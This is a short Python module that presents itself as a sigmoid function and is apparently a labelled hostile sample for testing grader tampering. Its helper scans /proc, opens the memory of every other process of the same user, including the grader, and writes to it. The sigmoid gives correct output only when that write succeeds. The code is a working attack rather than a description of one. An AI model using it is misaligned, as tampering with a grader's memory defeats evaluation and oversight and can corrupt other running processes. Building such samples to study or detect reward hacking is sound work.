# HOSTILE: opens the memory of the grader and of every other process of its uid (/proc/<pid>/mem) for writing, writes
# bytes back where they were (a verdict could be changed so); sigmoid is right only if one was written. reached() says where.
import os

import numpy as np


def _writable_memory():
    reached = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/maps") as maps:
                line = next(entry for entry in maps if entry.split()[1].startswith("rw"))
            start = int(line.split("-")[0], 16)
            with open(f"/proc/{name}/mem", "r+b", 0) as memory:
                memory.seek(start)
                data = memory.read(8)
                memory.seek(start)
                if memory.write(data) == len(data):
                    reached.append(int(name))
        except (OSError, StopIteration, ValueError):
            continue
    return reached


def reached():
    """The processes whose memory this one could write."""
    return _writable_memory()


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    if not _writable_memory():
        return z
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
